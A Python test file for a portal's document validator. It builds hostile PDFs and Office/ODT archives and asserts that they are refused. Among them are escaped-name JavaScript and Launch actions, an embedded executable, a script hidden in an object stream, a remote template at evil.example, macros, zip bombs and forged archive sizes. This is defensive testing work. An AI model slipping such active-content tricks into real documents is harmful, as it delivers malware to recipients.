"""Documents sent to the inspectors are judged by their content (documents.check)."""
import io

import pytest
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from portal.inspections import documents
from tests.builders import a_pdf
from tests.hostile_files import PAGES, a_zip, an_odt, raw_pdf

DOCX_TYPES = ('<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/'
              'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
RELS = ('<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')


def a_docx(**extra):
    return a_zip({"[Content_Types].xml": DOCX_TYPES, "_rels/.rels": RELS, "word/document.xml": "<w/>", **extra})


def an_image(kind="PNG"):
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (20, 10), "white").save(buffer, kind)
    return buffer.getvalue()


def test_the_accepted_kinds_are_recognised_by_their_content():
    assert documents.check(a_pdf()).extension == "pdf"
    assert documents.check(a_docx()).extension == "docx"
    odt = a_zip({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office/>"})
    assert documents.check(odt).content_type == "application/vnd.oasis.opendocument.text"
    assert documents.check(an_image("PNG")).content_type == "image/png"
    assert documents.check(an_image("JPEG")).extension == "jpg"


@pytest.mark.parametrize("data, message", [
    (b"", "Choose the file"),
    (b"MZ\x90\x00" + b"\x00" * 100, "not accepted"),  # a Windows program, whatever its name
    (b"%PDF-1.7\n garbage", "cannot be opened"),
    (b"\x89PNG\r\n\x1a\n" + b"\x00" * 50, "cannot be opened"),
    (b"GIF89a" + b"\x00" * 50, "not accepted"),
])
def test_what_is_not_an_accepted_document_is_refused_with_a_reason(data, message):
    with pytest.raises(documents.DocumentError) as refused:
        documents.check(data)
    assert message in str(refused.value.message)


def test_a_pdf_with_javascript_is_refused():
    with pytest.raises(documents.DocumentError) as refused:
        documents.check(a_pdf(script=True))
    assert "scripts, actions" in str(refused.value.message)


def test_a_pdf_whose_catalog_acts_on_opening_is_refused_even_when_no_name_shows():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"),
                               NameObject("/F"): TextStringObject("calc.exe")})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    buffer = io.BytesIO()
    writer.write(buffer)
    with pytest.raises(documents.DocumentError):
        documents.check(buffer.getvalue())


def test_office_documents_with_macros_are_refused():
    types = DOCX_TYPES.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.'
                                           'vbaProject"/></Types>')
    docm = a_zip({"[Content_Types].xml": types, "_rels/.rels": RELS, "word/document.xml": "<w/>",
                  "word/vbaProject.bin": "x"})
    with pytest.raises(documents.DocumentError) as refused:
        documents.check(docm)
    assert "macros" in str(refused.value.message)


def test_a_zip_bomb_is_refused_before_it_is_unpacked(monkeypatch):
    monkeypatch.setattr(documents, "MAX_UNPACKED", 1000)
    bomb = a_docx(**{"word/media/big.bin": "0" * 5000})
    with pytest.raises(documents.DocumentError) as refused:
        documents.check(bomb)
    assert "unpacks to more than" in str(refused.value.message)


def test_a_plain_zip_is_not_an_office_document():
    with pytest.raises(documents.DocumentError):
        documents.check(a_zip({"readme.txt": "hello"}))


def test_too_big_is_refused(monkeypatch):
    monkeypatch.setattr(documents, "MAX_BYTES", 100)
    with pytest.raises(documents.DocumentError) as refused:
        documents.check(a_pdf())
    assert "larger than" in str(refused.value.message)


@pytest.mark.parametrize("objects", [
    # a link whose action is JavaScript, its names written with #xx escapes
    [b"<< /Type /Catalog /Pages 2 0 R >>", *PAGES,
     b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
     b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /J#61vaScript /J#53 (app.alert(1)) >> >>"],
    # a harmless action on opening, chained to a launch
    [b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /L#61unch /F (cmd) >> >> >>",
     *PAGES, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"],
    # a program attached to the document
    [b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(evil.exe) 4 0 R] >> >> >>", *PAGES,
     b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>", b"<< /Type /Filespec /F (evil.exe) >>"],
], ids=["escaped-link-script", "chained-launch", "attached-program"])
def test_active_pdfs_are_refused_however_they_are_written(objects):
    """The review's findings: the raw bytes show no active name, the walk of every object finds it."""
    with pytest.raises(documents.DocumentError):
        documents.check(raw_pdf(objects))


def test_a_plain_link_to_a_page_stays_allowed():
    plain = raw_pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", *PAGES,
                     b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"])
    assert documents.check(plain).extension == "pdf"


def test_a_script_inside_a_compressed_object_stream_is_found():
    import zlib

    inner = [b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 5 0 R >>", b"<< /S /JavaScript /JS (x) >>"]
    header, body = b"", b""
    for number, obj in zip((4, 5), inner):
        header += b"%d %d " % (number, len(body))
        body += obj + b" "
    stream = zlib.compress(header + body)
    out, offsets = b"%PDF-1.7\n", {}
    for number, obj in ((1, b"<< /Type /Catalog /Pages 2 0 R >>"), (2, PAGES[0]),
                        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>"),
                        (6, b"<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
                         % (len(header), len(stream)) + stream + b"\nendstream")):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref = len(out)
    rows = [b"\x00\x00\x00\x00\xff\xff"] + [b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00" for n in (1, 2, 3)]
    rows += [b"\x02" + (6).to_bytes(4, "big") + bytes([i]) for i in (0, 1)]
    rows += [b"\x01" + offsets[6].to_bytes(4, "big") + b"\x00", b"\x01" + xref.to_bytes(4, "big") + b"\x00"]
    table = zlib.compress(b"".join(rows))
    out += (b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
            % len(table) + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref)
    assert b"JavaScript" not in out
    with pytest.raises(documents.DocumentError):
        documents.check(out)


@pytest.mark.parametrize("document", [
    lambda: a_docx(**{"word/_rels/settings.xml.rels": (
        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
        '</Relationships>')}),
    lambda: a_docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    lambda: a_docx(**{"word/activeX/activeX1.bin": b"x"}),
    lambda: a_docx(**{"evil.exe": b"MZ", "index.html": "<script>"}),
    lambda: a_zip({"[Content_Types].xml": DOCX_TYPES.replace("document.main", "document.macroEnabled.main"),
                   "_rels/.rels": RELS, "word/document.xml": "<w/>", "word/x.bin": b"VBA"}),
    lambda: a_zip({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office/>",
                   "Scripts/python/evil.py": "import os"}),
    lambda: a_zip({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": (
        '<office:document-content><office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:'
        'Standard.M.x"/></office:event-listeners></office:document-content>')}),
], ids=["remote-template", "ole-object", "activex", "stray-program", "macro-enabled", "odt-script", "odt-listener"])
def test_office_documents_with_active_content_are_refused(document):
    with pytest.raises(documents.DocumentError):
        documents.check(document())


def test_an_encrypted_part_is_refused():
    import struct

    data = bytearray(a_docx(**{"payload.bin": b"MZ" * 100}))
    for signature, flag, name_at, length_at in ((b"PK\x03\x04", 6, 30, 26), (b"PK\x01\x02", 8, 46, 28)):
        at = 0
        while (at := data.find(signature, at)) != -1:
            length = struct.unpack_from("<H", data, at + length_at)[0]
            if bytes(data[at + name_at:at + name_at + length]) == b"payload.bin":
                data[at + flag] |= 1
            at += 4
    with pytest.raises(documents.DocumentError) as refused:
        documents.check(bytes(data))
    assert "password" in str(refused.value.message)


def test_a_part_that_holds_more_than_its_archive_declares_is_refused_when_read(monkeypatch):
    """zipfile stops at the declared size and then fails on the checksum: what the directory says bounds
    every read, and the lie is refused rather than half-read."""
    import struct

    data = bytearray(an_odt(**{"content.xml": b"<office/>" + b" " * (3 * 1024 * 1024) + b"<office:scripts/>"}))
    at = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02") + 4)  # content.xml's directory entry says 1,000 bytes
    assert data[at + 46:at + 57] == b"content.xml"
    struct.pack_into("<I", data, at + 24, 1000)
    with pytest.raises(documents.DocumentError):
        documents.check(bytes(data))


def test_a_part_is_searched_as_it_unpacks_across_its_chunks(monkeypatch):
    monkeypatch.setattr(documents, "CHUNK", 64)
    for offset in range(0, 80, 7):  # the word falls on either side of a chunk's end, or across it
        padded = "<office>" + " " * offset + "<office:SCRIPTS/></office>"
        with pytest.raises(documents.DocumentError, match="macros"):
            documents.check(an_odt(**{"content.xml": padded}))
    assert documents.check(an_odt(**{"content.xml": "<office>" + " " * 200 + "</office>"})).extension == "odt"


def test_the_xml_read_from_one_document_is_bounded_in_all(monkeypatch):
    """Many small relationship parts cost no more than one big one: they share one budget."""
    monkeypatch.setattr(documents, "MAX_XML_IN_ALL", 20_000)
    rels = '<Relationships>' + '<Relationship Id="r" Type="x" Target="y"/>' * 20 + '</Relationships>'
    parts = {f"word/_rels/part{number}.xml.rels": rels for number in range(40)}
    with pytest.raises(documents.DocumentError, match="too many parts"):
        documents.check(a_docx(**parts))
    assert documents.check(a_docx(**dict(list(parts.items())[:5]))).extension == "docx"


def test_an_archive_of_too_many_parts_is_refused_before_its_directory_is_read(monkeypatch):
    monkeypatch.setattr(documents, "MAX_ENTRIES", 5)
    many = a_docx(**{f"word/media/image{number}.png": b"" for number in range(5)})
    monkeypatch.setattr(documents.zipfile, "ZipFile", lambda *args: pytest.fail("the directory was read"))
    with pytest.raises(documents.DocumentError, match="too many parts"):
        documents.check(many)
